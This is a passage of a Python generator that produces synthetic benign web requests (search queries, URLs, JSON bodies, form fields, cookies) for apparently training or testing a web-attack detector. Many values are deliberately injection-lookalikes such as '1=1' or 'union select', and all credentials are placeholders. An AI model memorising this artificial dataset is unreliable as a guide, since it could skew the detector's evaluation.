            g.query(term, hard, host, path, param, extras[i % len(extras)], plus=RNG.random() < 0.6)
        elif kind == 7:
            g.json(
                term,
                hard,
                "search.libris.org",
                "/api/v2/search",
                {"query": PH, "filters": {"format": ["ebook", "print"], "year_from": 2015}, "page": 1, "size": 20},
            )
        elif kind == 8:
            g.path(term, hard, "stackhelp.devforum.io", "/search/{}", query="sort=votes")
        else:
            g.form(term, hard, "www.recipebox.kitchen", "/search", "keywords", [("submit", "Search")])
    # structured query languages in search boxes
    g.query(
        'title:"annual report" AND year:[2020 TO 2024]',
        True,
        "search.libris.org",
        "/api/v1/search",
        "query",
        [("syntax", "lucene")],
    )
    g.query(
        "author:(smith OR jones) -draft", True, "search.libris.org", "/api/v1/search", "query", [("syntax", "lucene")]
    )
    g.query('status:open label:"good first issue" sort:updated-desc', True, "code.gitforge.dev", "/issues", "q", [])
    g.query("price<50 & rating>=4", True, "api.cartwheel.io", "/v1/products", "search", [])
    g.query('site:example.com filetype:pdf "terms and conditions"', True, "search.libris.org", "/web", "q", [])


# ---------------------------------------------------------------- urls
def presigned_s3():
    key = RNG.choice(
        [
            "uploads/2026/12/invoice-8812.pdf",
            "exports/report%20Q3.csv",
            "avatars/u_4411/original.png",
            "backups/db-2026-12-05.sql.gz",
        ]
    )
    date = "20261205T%02d%02d%02dZ" % (RNG.randrange(24), RNG.randrange(60), RNG.randrange(60))
    return (
        f"https://acme-files.s3.eu-west-1.amazonaws.com/{key}?X-Amz-Algorithm=AWS4-HMAC-SHA256"
        f"&X-Amz-Credential=AKIAEXAMPLE{ralnum(8).upper()}%2F20261205%2Feu-west-1%2Fs3%2Faws4_request"
        f"&X-Amz-Date={date}&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature={rhex(64)}"
    )


URLS_HARD = [
    "https://login.idgate.io/oauth2/authorize?client_id=shop-web&redirect_uri=https%3A%2F%2Fshop.northwind-outfitters.com%2Fauth%2Fcallback&response_type=code&scope=openid%20profile%20email&state=af0ifjsldkj",
    "http://localhost:3000/auth/callback",
    "http://127.0.0.1:8765/oauth/desktop-callback",
    "http://[2001:db8::1]:8080/health",
    "https://[2001:db8:85a3::8a2e:370:7334]/status",
    "https://192.0.2.10/status",
    "https://198.51.100.22:8443/api/v1/ping",
    "ftp://ftp.example.org/pub/README.txt",
    "mailto:sales@example.com?subject=Quote%20request&body=Hi%20team",
    "tel:+1-555-0100",
    "myapp://open/item/42?ref=push&campaign=winter",
    "intent://scan/#Intent;scheme=zxing;package=com.example.scanner;end",
    "../images/logo.png",
    "https://web.archive.org/web/20201101000000*/example.com",
    "https://www.google.com/url?q=https://www.example.com/page&sa=D&source=docs",
    "https://t.example-mail.com/c/eJxNj0FuwzAMBF-jmx2JkmXlsGcF7dB-gD_QVRcUobKS",
    "https://docs.example.com/#/api/users?id=1&expand=roles",
    "https://cdn.example.com/images/photo.jpg?w=800&h=600&fit=crop&auto=format,compress",
    "https://example.com/search?q=select+all+from+union&utm_source=newsletter&utm_medium=email",
    "https://maps.example.com/?ll=51.5074,-0.1278&z=12",
    "https://example.com/wiki/C%2B%2B_(programming_language)",
    "https://example.com/files/Annual%20Report%20(final)%20v2.pdf",
    "https://shop.example.com/product/mug?variant=blue&ref=../../home",
    "file:///Users/kim/Documents/notes.txt",
    "https://user@git.example.com/team/repo.git",
    "https://hooks.slack-example.com/services/T0000/B0000/XXXXXXXXXXXXXXXX",
    "https://xn--mnchen-3ya.example/stadtplan",
    "https://example.com/redirect?to=%2Fdashboard%3Ftab%3Dbilling",
    "https://api.example.com/v1/items?filter[status]=active&filter[owner]=me&sort=-created_at",
    "https://example.com/callback#access_token=abc.def.ghi&token_type=bearer&expires_in=3600",
    "https://cdn.jsdelivr.example/npm/chart.js@4.4.1/dist/chart.umd.min.js",
    "https://example.com/a/b/./c/../d/index.html",
    "https://video.example.com/embed/xyz123?autoplay=1&start=90",
    "https://example.com/%E2%9C%93/check",
    "https://10.0.0.5.example-cdn.net/assets/app.css",
    "https://example.com/path;jsessionid=0A1B2C3D4E5F?x=1",
    "https://example.com/?q=%3Cscript%3E+tag+tutorial",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
]
URLS_PLAIN = [
    "https://www.example-shop.com/products/blue-mug",
    "https://news.dailyharbor.news/2026/12/05/city-council-budget",
    "https://github.com/example-org/example-repo",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://en.wikipedia.org/wiki/Lisbon",
    "https://docs.python.org/3/library/json.html",
    "https://www.bbc.co.uk/news",
    "https://example.com/",
    "https://blog.saltmarsh.dev/posts/hello-world",
    "https://www.linkedin.com/in/example-person",
    "https://calendar.example.com/event/8812",
    "https://status.tasklane.io",
    "https://shop.northwind-outfitters.com/cart",
    "https://www.recipebox.kitchen/recipes/sourdough",
    "https://support.helpdeskr.com/articles/42",
    "https://example.org/about-us",
    "https://portfolio.example.net/",
    "https://www.example.co.uk/contact",
    "https://app.tasklane.io/board/ops",
    "https://pay.mercato.app/checkout/success",
    "https://maps.example.com/place/harbor-cafe",
    "https://www.meetup-example.com/events/123456",
    "https://hooks.example.org/in/orders",
    "https://ci.buildhive.dev/builds/9921",
    "https://forum.gearheads.community/t/brake-pads/4412",
]


def benign_urls():
    g = B("benign_urls")
    urls = (
        [(u, True) for u in URLS_HARD] + [(presigned_s3(), True) for _ in range(6)] + [(u, False) for u in URLS_PLAIN]
    )
    urls += [
        (
            f"https://shop.northwind-outfitters.com/products/{RNG.choice(['mug', 'beanie', 'skillet', 'lamp'])}-{rdigits(4)}?utm_source={RNG.choice(['newsletter', 'facebook', 'google'])}&utm_medium=cpc&utm_campaign=winter_sale",
            False,
        )
        for _ in range(8)
    ]
    RNG.shuffle(urls)
    local_prefixes = (
        "http://localhost",
        "http://127.",
        "http://[",
        "https://[",
        "https://192.0.2.",
        "https://198.51.100.",
        "https://10.",
        "file:",
        "data:",
        "tel:",
        "mailto:",
        "myapp:",
        "intent:",
        "../",
        "ftp:",
    )
    for i, (u, hard) in enumerate(urls):
        k = i % 9
        if u.startswith("data:"):
            g.json(
                u,
                hard,
                "app.tasklane.io",
                "/api/profile/avatar",
                {"avatar": PH, "crop": {"x": 0, "y": 0, "size": 1}},
                method="PUT",
            )
            continue
        if u.startswith(local_prefixes) and k not in (3, 4, 5):
            # never hand loopback/documentation/odd-scheme URLs to something that fetches them:
            # they appear where apps merely store them (redirect registrations, profile links, menus)
            if u.startswith(("http://localhost", "http://127.", "http://[::1]")):
                g.json(
                    u,
                    hard,
                    "developer.idgate.io",
                    "/api/clients/cl_" + rdigits(4) + "/redirect-uris",
                    {"uri": PH, "type": "native"},
                )
                continue
            k = RNG.choice([3, 4, 5])
        if k == 0:
            g.query(u, hard, "api.linkpeek.io", "/v1/preview", "url", [("maxwidth", "600")])
        elif k == 1:
            g.query(
                u, hard, "auth.idgate.io", "/login", RNG.choice(["return_to", "next", "continue"]), [("lang", "en")]
            )
        elif k == 2:
            g.json(
                u,
                hard,
                "hooks.relaybox.dev",
                "/api/webhooks",
                {"name": "orders", "webhook_url": PH, "events": ["order.created"], "active": True},
            )
        elif k == 3:
            g.json(u, hard, "app.tasklane.io", "/api/profile", {"display_name": rname(), "website": PH}, method="PATCH")
        elif k == 4:
            g.form(
                u,
                hard,
                "forum.gearheads.community",
                "/profile/edit",
                "homepage",
                [("signature", "Ride safe"), ("location", RNG.choice(CITIES))],
            )
        elif k == 5:
            g.json(
                u, hard, "cms.saltmarsh.dev", "/api/menus/main/items", {"label": "Link", "href": PH, "new_tab": False}
            )
        elif k == 6:
            g.query(u, hard, "go.tracklinkr.com", "/click", "dest", [("cid", rdigits(5)), ("uid", rhex(12))])
        elif k == 7:
            g.cookie(u, hard, "shop.northwind-outfitters.com", "/account", "return_to", [("sid", rhex(32))])
        else:
            g.multipart(
                u, hard, "api.linkpeek.io", "/v1/bookmarks/import", [part("url", PH), part("folder", "reading-list")]
            )
    # developer console registering OAuth clients with loopback / IPv6 redirect URIs
    g.json(
        "http://[::1]:8080/callback",
        True,
        "developer.idgate.io",
        "/api/clients/cl_8812/redirect-uris",
        {"uri": PH, "type": "native"},
    )
    g.json(
        "https://staging.app.example.com/oauth/callback?env=staging",
        True,
        "developer.idgate.io",
        "/api/clients/cl_8812/redirect-uris",
        {"uri": PH, "type": "web"},
    )


# ---------------------------------------------------------------- api_json
def benign_api_json():
    g = B("benign_api_json")
    ids = lambda: rdigits(6)
    # ordinary traffic (not hard)
    for _ in range(8):
        items = [
            {"sku": RNG.choice(["MUG-01", "TEE-RED-M", "BEAN-GRY", "SKL-26", "LMP-LED"]), "qty": RNG.randint(1, 4)}
            for _ in range(RNG.randint(1, 3))
        ]
        body = {
            "customer_id": "cus_" + ralnum(10),
            "items": items,
            "shipping": {
                "name": rname(),
                "city": RNG.choice(CITIES),
                "postcode": RNG.choice(["D02 XY45", "SW1A 1AA", "10115", "M5V 2T6", "78701"]),
            },
            "currency": RNG.choice(["EUR", "GBP", "USD"]),
        }
        g.json_at(False, "api.cartwheel.io", "/v1/orders", body, ("shipping", "name"))
    for _ in range(6):
        body = {
            "device_id": "th-" + rhex(8),
            "ts": 1764900000 + RNG.randrange(100000),
            "temp_c": round(RNG.uniform(16, 24), 1),
            "humidity": RNG.randint(30, 70),
            "battery": RNG.randint(10, 100),
            "fw": "2.4.1",
        }
        g.json_at(False, "gw.smartheat.home", "/api/telemetry", body, ("device_id",))
    for _ in range(6):
        body = {
            "from_account": "GB29NWBK6016133192" + rdigits(4),
            "to_iban": "DE89370400440532013000",
            "amount": {"value": "%d.%02d" % (RNG.randint(5, 900), RNG.randrange(100)), "currency": "EUR"},
            "reference": RNG.choice(["Rent December", "Invoice 2291", "Birthday gift", "Car share"]),
        }
        g.json_at(False, "api.fintrail.io", "/v2/transfers", body, ("reference",))
    for _ in range(5):
        body = {
            "title": RNG.choice(
                ["Fix login redirect", "Quarterly planning", "Update onboarding docs", "Replace office printer"]
            ),
            "assignee": remail(),
            "due": "2026-12-%02d" % RNG.randint(8, 30),
            "labels": ["ops"],
            "priority": RNG.choice(["low", "medium", "high"]),
        }
        g.json_at(False, "api.tasklane.io", "/v2/tasks", body, ("title",))
    for _ in range(5):
        g.query(
            RNG.choice(["active", "paid", "overdue", "draft"]),
            False,
            "api.ledgerly.app",
            "/v1/invoices",
            "status",
            [("page", str(RNG.randint(1, 5))), ("per_page", "50"), ("sort", "-issued_at")],
        )
    for _ in range(4):
        body = {
            "rating": RNG.randint(3, 5),
            "title": RNG.choice(["Great mug", "Comfy shoes", "Does the job"]),
            "verified": True,
        }
        g.json_at(False, "api.cartwheel.io", "/v1/products/MUG-01/reviews", body, ("title",))
    g.json_at(
        False,
        "api.fitpulse.app",
        "/v2/workouts",
        {"type": "run", "distance_km": 10.2, "duration_s": 3120, "notes": "Easy pace along the river"},
        ("notes",),
    )
    g.json_at(
        False,
        "api.shipmatic.io",
        "/v1/shipments",
        {"carrier": "dhl", "weight_kg": 1.4, "dims_cm": [30, 20, 10], "service": "express"},
        ("service",),
    )
    g.json_at(False, "api.tasklane.io", "/v2/tasks/8812", {"status": "done"}, ("status",), method="PATCH")
    g.json_at(
        False,
        "app.tasklane.io",
        "/api/me/preferences",
        {"timezone": "Europe/Dublin", "week_start": "monday", "theme": "dark"},
        ("timezone",),
        method="PUT",
    )

    # false-positive-prone but ordinary (hard)
    g.jkey(
        "constructor",
        True,
        "api.racestats.io",
        "/v1/standings/update",
        {
            "season": 2026,
            "round": 22,
            "results": [{"driver": "A. Novak", "constructor": "Team Meridian", "points": 25}],
            "constructor": "Team Meridian",
        },
    )
    g.jkey("prototype", True, "api.hwlab.io", "/v1/boards", {"name": "PX-2 rev B", "prototype": True, "stage": "EVT"})
    g.jkey(
        "$schema",
        True,
        "api.formbuilder.app",
        "/v1/forms",
        {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "$id": "https://forms.example.com/contact.json",
            "type": "object",
            "properties": {"email": {"type": "string", "format": "email"}},
        },
    )
    g.jkey(
        "$ref",
        True,
        "api.formbuilder.app",
        "/v1/forms/88/fields",
        {"address": {"$ref": "#/$defs/address"}, "required": ["address"]},
        method="PUT",
    )
    g.json_at(
        True,
        "gw.smartheat.home",
        "/api/devices/th-19/commands",
        {"command": "reboot", "delay_s": 5, "reason": "firmware update"},
        ("command",),
    )
    g.json_at(
        True,
        "api.querykit.io",
        "/v1/query",
        {
            "select": ["id", "name", "email"],
            "from": "customers",
            "where": {"status": "active"},
            "order_by": "created_at desc",
            "limit": 50,
        },
        ("order_by",),
    )
    g.json_at(
        True,
        "api.ledgerly.app",
        "/v1/odata/invoices",
        {"filter": "status eq 'open' and total gt 100", "orderby": "due_date desc"},
        ("filter",),
    )
    g.json_at(
        True,
        "rules.ledgerly.app",
        "/api/v1/rules",
        {"name": "big-eur", "expression": "amount > 1000 && currency == 'EUR'", "action": "review"},
        ("expression",),
    )
    g.json_at(
        True,
        "api.storagebox.io",
        "/v1/exports",
        {"path": "/var/data/exports/2026-12.csv", "overwrite": False},
        ("path",),
    )
    g.json_at(
        True,
        "api.shipmatic.io",
        "/v1/shipments/8812/notes",
        {"note": "Deliver to back door; if no answer, call (555) 010-2938 -- ask for Pat"},
        ("note",),
    )
    g.json_at(
        True,
        "mail.postbox-tools.com",
        "/api/templates",
        {"name": "shipped", "template": "Hello {first_name}, your order #{order_id} has shipped!"},
        ("template",),
    )
    g.json_at(
        True,
        "api.cron-tasks.io",
        "/v1/jobs",
        {"name": "nightly-report", "schedule": "*/15 2-4 * * 1-5", "command": "report --since=yesterday --format=csv"},
        ("command",),
    )
    g.json_at(
        True,
        "api.searchgrid.io",
        "/v1/indexes/products/query",
        {
            "query": {
                "bool": {
                    "must": [{"match": {"title": "union jack flag"}}],
                    "filter": [{"range": {"price": {"lte": 40}}}],
                }
            }
        },
        ("query", "bool", "must", 0, "match", "title"),
    )
    g.json_at(
        True,
        "api.cartwheel.io",
        "/v1/products",
        {"name": "Drop-leaf table (select oak)", "sku": "TBL-DROP-OAK", "price": 349.0},
        ("name",),
    )
    g.json_at(
        True,
        "api.helpdeskr.com",
        "/v1/macros",
        {"title": "Reset password", "script": "Tell the customer to click 'Forgot password?' then check spam."},
        ("script",),
    )
    g.json_at(
        True,
        "api.fitpulse.app",
        "/v2/users/me",
        {"display_name": "Seán O'Brien-Ní Dhuibhir", "bio": "Runner; coffee > tea"},
        ("display_name",),
        method="PATCH",
    )
    g.json_at(
        True,
        "api.orgchart.io",
        "/v1/people",
        {"dn": "cn=Kim Lee,ou=Engineering,dc=example,dc=com", "title": "Staff Engineer"},
        ("dn",),
    )
    g.json_at(
        True,
        "api.analytics-lite.io",
        "/v1/events",
        {"event": "page_view", "props": {"path": "/blog/../pricing", "referrer": "https://www.google.com/"}},
        ("props", "path"),
    )
    g.json_at(
        True,
        "api.tasklane.io",
        "/v2/automations",
        {"when": "task.moved", "if": "task.column == 'Done' || task.labels.includes('urgent')", "then": "notify"},
        ("if",),
    )
    g.json_at(
        True,
        "api.shipmatic.io",
        "/v1/addresses",
        {"line1": "Unit 4 & 5, Harbour Rd.", "line2": "C/O Smith & Sons <Deliveries>", "city": "Cork"},
        ("line2",),
    )
    g.json_at(
        True,
        "api.dbadmin-lite.io",
        "/v1/saved-queries",
        {
            "name": "top customers",
            "sql": "SELECT customer_id, SUM(total) AS spend FROM orders GROUP BY customer_id ORDER BY spend DESC LIMIT 10",
        },
        ("sql",),
    )
    g.json_at(
        True,
        "api.iotfleet.io",
        "/v1/devices/bulk",
        {
            "devices": [{"id": "cam-01", "ip": "10.0.4.21"}, {"id": "cam-02", "ip": "10.0.4.22"}],
            "gateway": "http://10.0.4.1:8080",
        },
        ("gateway",),
    )
    g.json_at(
        True,
        "api.i18n-hub.io",
        "/v1/strings",
        {"key": "cart.summary", "value": "You have {count, plural, one {# item} other {# items}} in your cart"},
        ("value",),
    )
    g.json_at(
        True,
        "api.tasklane.io",
        "/v2/tasks",
        {"title": 'Investigate "alert(1)" showing up in the logs', "labels": ["security"]},
        ("title",),
    )
    g.json_at(
        True,
        "api.orders-legacy.io",
        "/v1/sync",
        {"where": "1=1", "comment": "full resync requested by finance"},
        ("where",),
    )
    g.json_at(
        True,
        "api.ledgerly.app",
        "/v1/customers",
        {"name": "Ampersand & Co. (Holdings) Ltd.", "vat": "IE6388047V"},
        ("name",),
    )
    g.json_at(
        True,
        "api.fitpulse.app",
        "/v2/users/me/settings",
        {"units": "metric", "regex_filter": "^(run|ride)-\\d{4}$"},
        ("regex_filter",),
        method="PUT",
    )
    g.json_at(
        True,
        "api.mapstack.io",
        "/v1/geofences",
        {"name": "Depot", "wkt": "POLYGON((-8.47 51.89, -8.46 51.89, -8.46 51.90, -8.47 51.90, -8.47 51.89))"},
        ("wkt",),
    )
    g.json_at(
        True,
        "api.kvstore.io",
        "/v1/keys/feature-flags",
        {"value": '{"new_checkout":true,"beta_users":["a@example.com"]}'},
        ("value",),
        method="PUT",
    )
    g.json_at(
        True,
        "api.tasklane.io",
        "/v2/comments",
        {"task": 8812, "body": "Moved to 'Done' -- @kim please review; thx!"},
        ("body",),
    )
    g.json_at(
        True,
        "api.cartwheel.io",
        "/v1/coupons",
        {"code": "SAVE-10%-OFF", "description": "10% off orders > €50 (excl. gift cards)"},
        ("description",),
    )
    g.json_at(
        True,
        "api.recipebox.kitchen",
        "/v1/recipes",
        {"title": 'Grandma\'s "secret" stew', "steps": ["Brown the beef; set aside.", "Add 1/2 cup wine & reduce."]},
        ("steps", 1),
    )
    g.json_at(
        True,
        "api.helpdeskr.com",
        "/v1/tickets/5521/events",
        {"type": "note", "text": 'User says: "it fails when I exec the installer as admin"'},
        ("text",),
    )
    g.json_at(
        True,
        "api.pipelines.dev",
        "/v1/pipelines",
        {"name": "build", "env": {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": "/home/runner"}},
        ("env", "PATH"),
    )
    g.json_at(
        True,
        "api.tasklane.io",
        "/v2/search/saved",
        {"name": "mine", "query": "assignee:me AND (status:open OR status:blocked)"},
        ("query",),
    )
    g.json_at(
        True,
        "api.ledgerly.app",
        "/v1/reports",
        {"columns": ["date", "amount"], "sort": "amount DESC, date ASC"},
        ("sort",),
    )
    g.json_at(
        True,
        "api.cms-headless.io",
        "/v1/entries",
        {"slug": "union-select-committee-report-2026", "title": "Union select committee report 2026"},
        ("slug",),
    )
    g.json_at(
        True,
        "api.chatops.dev",
        "/v1/messages",
        {"channel": "#deploys", "text": "Deploying v2.4.1 -> prod; run `./migrate --dry-run` first"},
        ("text",),
    )
    g.json_at(
        True,
        "api.fintrail.io",
        "/v2/payees",
        {"name": "Dr. Ana García-López", "reference": "INV#2291/A; Q4"},
        ("reference",),
    )
    # bracket-syntax query keys used by JSON:API / Rails / Ransack style APIs
    g.query_key(
        "filter[status]",
        "active",
        True,
        "api.cms-headless.io",
        "/v1/articles",
        [("page[size]", "25"), ("sort", "-published_at")],
    )
    g.query_key("page[number]", "3", False, "api.cms-headless.io", "/v1/articles", [("page[size]", "50")])
    g.query_key(
        "fields[articles]", "title,body,author", True, "api.cms-headless.io", "/v1/articles", [("include", "author")]
    )
    g.query_key(
        "q[name_cont]", "o'brien", True, "admin.cartwheel.io", "/admin/customers", [("q[s]", "created_at desc")]
    )
    g.query_key("filter[price][gte]", "10", True, "api.cartwheel.io", "/v1/products", [("filter[price][lte]", "50")])
    g.query_key("sort[created_at]", "desc", True, "api.tasklane.io", "/v2/tasks", [("limit", "20")])
    g.query_key("where[author.name][like]", "%smith%", True, "api.cms-headless.io", "/v1/articles", [], kmode="std")
    g.query_key("ids[]", "8812", False, "api.tasklane.io", "/v2/tasks/batch", [("ids[]", "8813"), ("ids[]", "8814")])


# ---------------------------------------------------------------- forms
PASSWORDS_HARD = [
    "c0rrect-horse;battery",
    "p@ss'word123",
    "letme1n--now",
    "<3cats4ever",
    "O'Neill1987!",
    "100%Secure=yes",
    "}{Ab12&*#",
    "drop_the_b@ss",
    '"quoted"Pass9',
    "semi;colon;2026",
    "(parens)&[brackets]",
    "Wh0|s|there?",
    "back\\slash99",
]
PASSWORDS_PLAIN = [
    "Summer2026",
    "bluefinch77",
    "HarborLights9",
    "qwerty2026x",
    "MyDogRex12",
    "Spring4ward",
    "Greentea88",
    "Cork2Dublin",
    "Tr0ub4dor&3",
    "S3cure!Pass#2026",
    "Kx9$mQ2!vR",
    "my pass phrase with spaces",
    "eq==uals4U",
]
NAMES_HARD = [
    "Seán O'Brien",
    "Aoife D'Arcy",
    "Liam O'Connor-Smith",
    "Jean-Luc D'Amico",
    "Dell'Acqua, Marco",
    "Mary-Kate O'Neill",
    'Zoë "Zo" Martin',
    "Ngozi Okafor (Dr.)",
    "Ana García & Co.",
    "J. R. R. Tolkien-O'Hara",
]
ADDRESSES_HARD = [
    "Apt #4B, 12 O'Connell St.",
    "Flat 3/2, 45 Queen's Rd",
    "1/2 Baker Street",
    "C/O Smith & Sons Ltd, Unit 7",
    "Straße des 17. Juni 135",
    "PO Box 1234; deliver to side gate",
    "12-14 St. Mary's Lane (rear entrance)",
    "Unit 5 -- Harbour Industrial Est.",
    '742 Evergreen Terrace, "The Blue House"',
]
MESSAGES_HARD = [
    "The 'select all' checkbox doesn't work on the orders page; I had to click each one.",
    "Please drop the shipping price -- it's too high for small orders!",
    "Great service!!! 10/10 <3 would order again :)",
    "I think the answer is (a) or (c)... not sure; can someone confirm?",
    "Order #2291 & #2292 arrived together -- the 2nd box was damaged :(",
    "Can you update my address? New one is 'Flat 2, 10 Union St.' (not Union Sq.)",
    "Is 1=1 the same as true in your filter builder? The docs say 'where 1 = 1' is added automatically.",
    "Your script for the school play was brilliant; the kids loved the 'alert the guards!' scene.",
    "Delete my account please; I've moved to a different provider. Thanks, Kim",
    "The app crashes when I type <3 in the chat box. iOS 18.1, app v5.12.1.",
    "Hi -- my name has an apostrophe (O'Hara) and your form keeps rejecting it.",
    "Re: invoice -- the total should be €1,250.00 (not €1.250,00); see attached PDF.",
    "Used the code SAVE10 but it says 'invalid or expired'?!",
    "Could you exec the refund today? Order ref: NW-88231/B",
    'Wi-Fi password for the event: "Harbor#2026" (case-sensitive).',
]
MESSAGES_PLAIN = [
    "Hi, where is my order? It was due last week.",
    "Thanks for the quick reply.",
    "Do you ship to Canada?",
    "I'd like to change the size to medium.",
    "Please call me back tomorrow morning.",
    "Is this available in blue?",
    "The delivery arrived today, all good.",
    "Can I pick up in store instead?",
    "What are your opening hours on Sunday?",
    "Please add gift wrapping to my order.",
]


def benign_forms():
    g = B("benign_forms")
    logins = [
        ("secure.harborbank.com", "/login", "username", "password"),
        ("shop.northwind-outfitters.com", "/account/login", "email", "password"),
        ("forum.gearheads.community", "/login", "user", "pass"),
        ("auth.idgate.io", "/u/login", "username", "password"),
    ]
    for i, pw in enumerate(PASSWORDS_HARD + PASSWORDS_PLAIN):
        host, path, uf, pf = logins[i % len(logins)]
        user = (
            remail() if uf == "email" else RNG.choice(["kim.lee", "seanob", "amara_o", "noah88", "priya.p", "jonas_k"])
        )
        extra = [(uf, user), ("remember_me", "on")] if i % 2 else [(uf, user), ("csrf_token", ralnum(32))]
        g.form(pw, i < len(PASSWORDS_HARD), host, path, pf, extra)
    for i, nm in enumerate(NAMES_HARD):
        first, _, last = nm.partition(" ")
        g.form(
            nm,
            True,
            "www.bluefinch.co.uk",
            "/customer/account/createpost",
            "full_name",
            [("email", remail()), ("password", "Spring4ward"), ("newsletter", "1")],
        )
    for _ in range(8):
        n = rname()
        g.form(
            n,
            "'" in n,
            "shop.northwind-outfitters.com",
            "/checkout/shipping",
            "name",
            [
                (
                    "address1",
                    f"{RNG.randint(1, 200)} {RNG.choice(['High St', 'Main Street', 'Church Rd', 'Station Road'])}",
                ),
                ("city", RNG.choice(CITIES)),
                ("country", "IE"),
            ],
        )
    for a in ADDRESSES_HARD:
        g.form(
            a,
            True,
            "shop.northwind-outfitters.com",
            "/checkout/shipping",
            "address1",
            [
                ("name", rname()),
                ("city", RNG.choice(CITIES)),
                ("postcode", RNG.choice(["D02 XY45", "SW1A 1AA", "T12 W8F2"])),
                ("phone", "+353 21 490 0000"),
            ],
        )
    for m in MESSAGES_HARD:
        g.form(
            m,
            True,
            "www.bluefinch.co.uk",
            "/contact",
            "message",
            [("name", rname()), ("email", remail()), ("subject", "Question")],
        )
    for m in MESSAGES_PLAIN:
        g.form(
            m,
            False,
            "www.bluefinch.co.uk",
            "/contact",
            "message",
            [("name", rname()), ("email", remail()), ("subject", "Order")],
        )
    g.form(
        "first.last+newsletter@example.co.uk",
        True,
        "news.dailyharbor.news",
        "/newsletter",
        "email",
        [("list", "morning-briefing")],
    )
    g.form("o'reilly.kate@example.ie", True, "news.dailyharbor.news", "/newsletter", "email", [("list", "weekend")])
    g.form(
        "+44 (0)20 7946 0958",
        True,
        "www.bluefinch.co.uk",
        "/callback-request",
        "phone",
        [("name", rname()), ("time", "morning")],
    )
    g.form(
        "Leave at back door; dog is friendly :)",
        True,
        "shop.northwind-outfitters.com",
        "/checkout/notes",
        "delivery_notes",
        [("order", "NW-" + rdigits(5))],
    )
    g.form(
        "Ring bell #2 & wait -- 3rd floor",
        True,
        "shop.northwind-outfitters.com",
        "/checkout/notes",
        "delivery_notes",
        [("order", "NW-" + rdigits(5))],
    )
    g.form(
        "50% off?! Best deal I've seen -- 5/5",
        True,
        "www.bluefinch.co.uk",
        "/reviews/new",
        "review",
        [("product", "TEE-RED-M"), ("rating", "5")],
    )
    g.form("SELECT", True, "forms.surveyhub.io", "/s/8812", "q3_answer", [("q1", "yes"), ("q2", "weekly")])
    g.form(
        "union",
        True,
        "hr.staffbook.io",
        "/profile/edit",
        "membership",
        [("department", "Logistics"), ("shift", "early")],
    )
    g.form(
        "drop-off",
        True,
        "shop.northwind-outfitters.com",
        "/returns/new",
        "method",
        [("order", "NW-" + rdigits(5)), ("reason", "too small")],
    )
    g.form_key(
        "order[items][0][sku]",
        "MUG-01",
        True,
        "shop.northwind-outfitters.com",
        "/orders",
        [("order[items][0][qty]", "2"), ("order[note]", "gift wrap")],
    )
    g.form_key(
        "user[address][line1]",
        "Flat 2, 10 Union St.",
        True,
        "www.bluefinch.co.uk",
        "/customer/address/save",
        [("user[address][city]", "Cork")],
    )
    g.form_key(
        "preferences[notifications][email]",
        "1",
        False,
        "app.tasklane.io",
        "/settings/notifications",
        [("preferences[notifications][sms]", "0")],
    )
    for _ in range(6):
        g.form(
            RNG.choice(["medium", "large", "blue", "express", "pickup", "gift"]),
            False,
            "shop.northwind-outfitters.com",
            "/cart/update",
            "option",
            [("sku", RNG.choice(["MUG-01", "TEE-RED-M", "BEAN-GRY"])), ("qty", str(RNG.randint(1, 3)))],
        )
    for _ in range(6):
        g.form(
            RNG.choice(CITIES),
            False,
            "www.bluefinch.co.uk",
            "/stores/find",
            "city",
            [("radius_km", str(RNG.choice([5, 10, 25])))],
            method="POST",
        )


# ---------------------------------------------------------------- cookies
def ga():
    return f"GA1.2.{rdigits(9)}.{rdigits(10)}"


def benign_cookies():
    g = B("benign_cookies")
    sites = [
        ("shop.northwind-outfitters.com", "/"),
        ("www.bluefinch.co.uk", "/checkout"),
        ("app.tasklane.io", "/dashboard"),
        ("news.dailyharbor.news", "/2026/12/05/harbor-festival"),
        ("secure.harborbank.com", "/accounts"),
        ("www.recipebox.kitchen", "/recipes/sourdough"),
    ]
    base = lambda: [("_ga", ga()), ("_gid", f"GA1.2.{rdigits(9)}.{rdigits(10)}")]
    rows = []
    for _ in range(8):
        rows.append(("session_id", rhex(32), False))
    for _ in range(5):
        rows.append(("_ga", ga(), False))
    for _ in range(4):
        rows.append(("csrftoken", ralnum(32), False))
    for _ in range(4):
        rows.append(("lang", RNG.choice(["en-GB", "de-DE", "fr-FR", "es-ES", "ga-IE"]), False))
    for _ in range(3):
        rows.append(("_fbp", f"fb.1.{rdigits(13)}.{rdigits(10)}", False))
    for _ in range(3):
        rows.append(("AWSALB", b64(rbytes(48)), False))
    for _ in range(3):
        rows.append(("XSRF-TOKEN", b64(rbytes(30)), False))
    rows += [
        ("theme", "dark", False),
        ("currency", "EUR", False),
        ("tz", "Europe/London", False),
        ("cookie_consent", "accepted", False),
        (
            "OptanonConsent",
            "isGpcEnabled=0&datestamp=Thu Dec 05 2026 10:12:01 GMT+0100&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1,C0004:0&AwaitingReconsent=false",
            True,
        ),
        ("cart", '{"items":[{"sku":"MUG-01","qty":2},{"sku":"TEE-RED-M","qty":1}],"coupon":null}', True),
        ("prefs", b64('{"theme":"dark","lang":"en","compact":true}'), True),
        ("ajs_user_id", '"u_4411"', True),
        ("ajs_anonymous_id", '"' + ruuid() + '"', True),
        ("last_search", "union square hotels", True),
        ("last_search", "select comfort mattress", True),
        ("return_to", "/checkout?step=payment&method=card", True),
        ("recently_viewed", "1234|5678|9012|3456", True),
        ("flash", "Your changes were saved!", True),
        ("display_name", "O'Brien", True),
        ("display_name", "Zoë Müller", False),
        ("__cf_bm", ralnum(43) + "-" + rdigits(10) + "-1.0.1.1-" + ralnum(40), False),
        ("cf_clearance", ralnum(40) + "-" + rdigits(10) + "-1.2.1.1", False),
        ("__Host-session", rhex(40), False),
        ("__Secure-next-auth.session-token", ralnum(60), False),
        ("wp-settings-1", "libraryContent=browse&editor=tinymce&mfold=o", True),
        ("PHPSESSID", ralnum(26).lower(), False),
        ("JSESSIONID", rhex(32).upper() + ".node1", False),
        ("ASP.NET_SessionId", ralnum(24).lower(), False),
        ("sidebar", "collapsed", False),
        ("ab_test", "checkout_v2=B;pricing=control", True),
